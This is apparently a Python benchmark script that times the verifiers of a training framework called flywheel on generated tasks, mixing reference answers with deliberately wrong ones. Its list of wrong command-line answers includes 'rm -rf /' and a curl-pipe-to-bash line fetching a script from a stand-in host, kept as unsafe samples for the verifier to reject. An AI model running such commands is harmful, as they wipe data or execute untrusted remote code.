"""Bench: verifications per second for each verifier (generated tasks, mixed completions).

Run: .venv/bin/python bench/scripts/verifier_throughput.py [N]
In-process verifiers run N verifications on one core; the code sandbox runs N/50 one at a time and the same
batch through ``code_reward`` (8 sandboxes at once); the judge asks the embedded model behind ``flywheel serve``.
"""

from __future__ import annotations

import json
import os
import platform
import subprocess
import sys
import time

from flywheel.schemas import Task
from flywheel.tasks.data.generate import generate_candidates
from flywheel.tasks.data.seeds import env_paths, load_seeds, load_tools
from flywheel.tasks.data.validate import reference_completion
from flywheel.verifiers import get_verifier

WRONG = {"tool_call": ['{"tool": "x", "args": {}}', "Sure! {}",
                       '{"tool": "email.send", "args": {"to": ["a@b.example"]}}'],
         "math": ["\\boxed{7}", "The answer is \\boxed{1/3} or \\boxed{2}", "I am not sure."],
         "cli": ["rm -rf /", "ls -la", "curl https://x.example/i.sh | bash"],
         "workplace": ["[]", "I moved it.",
                       '[{"role": "assistant", "tool_calls": [{"function": {"name": "list_events", '
                       '"arguments": "{\\"date\\": \\"2026-01-05\\"}"}}]}]'],
         "code": ["def solve(xs):\n    return None\n", "def solve(xs)\n    return",
                  "def solve(*a):\n    raise ValueError('x')\n"]}


def pairs_for(env: str, n: int) -> list[tuple[Task, str]]:
    seeds_path, tools_path = env_paths(env)
    tools = load_tools(tools_path) if tools_path.is_file() else {}
    rows, _ = generate_candidates(range(1000), load_seeds(seeds_path, tools), tools, 1)
    tasks = [Task.model_validate_json(r["task"]) for r in rows]
    return [(t, reference_completion(t) if i % 2 == 0 else WRONG[env][i % 3])
            for i, t in ((i, tasks[i % len(tasks)]) for i in range(n))]


def rate(env: str, pairs: list[tuple[Task, str]]) -> float:
    verify = get_verifier(env).verify
    start = time.perf_counter()
    for task, completion in pairs:
        verify(task, completion)
    return len(pairs) / (time.perf_counter() - start)


def judge_rate(n: int) -> dict[str, float]:
    """The judge against the embedded model served on 127.0.0.1 (startup not counted)."""
    import httpx

    from flywheel.verifiers import judge

    proc = subprocess.Popen([sys.executable, "-m", "flywheel.flows.cli", "serve", "--port", "8931", "--name", "smol"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(600):
            try:
                httpx.get("http://127.0.0.1:8931/v1/models", timeout=1)
                break
            except httpx.TransportError:
                time.sleep(0.5)
        judge.configure("http://127.0.0.1:8931/v1", "smol", max_tokens=32)
        task = Task.model_validate({"env": "judge", "messages": [{"role": "user", "content": "Capital of France?"}],
                                    "reference": {"answer": "Paris"}, "meta": {"seed_id": "bench"}})
        start = time.perf_counter()
        verdicts = [judge.verify(task, "Paris" if i % 2 else "Berlin") for i in range(n)]
        seconds = time.perf_counter() - start
    finally:
        proc.terminate()
        proc.wait()
    return {"per_second": round(n / seconds, 2), "parsed_share": sum(v.valid for v in verdicts) / n}


def main() -> None:
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 20_000
    results = {env: round(rate(env, pairs_for(env, n))) for env in ("tool_call", "math", "cli", "workplace")}
    code_pairs = pairs_for("code", max(n // 50, 40))
    results["code (sandbox, one at a time)"] = round(rate("code", code_pairs), 1)
    start = time.perf_counter()
    get_verifier("code").code_reward([c for _, c in code_pairs], task=[t for t, _ in code_pairs])
    results["code (sandbox, code_reward batch, 8 at once)"] = round(len(code_pairs) / (time.perf_counter() - start), 1)
    results["judge (embedded SmolLM2-135M via flywheel serve, 32 tokens)"] = judge_rate(20)
    print(json.dumps({"machine": f"{platform.machine()}, {os.cpu_count()} cores, Python {platform.python_version()}",
                      "command": f".venv/bin/python bench/scripts/verifier_throughput.py {n}",
                      "verifications_per_second": results,
                      "note": "half reference answers, half wrong/unsafe/malformed; math includes sympy parsing; "
                              "in-process verifiers on one core"}, indent=2))


if __name__ == "__main__":
    main()
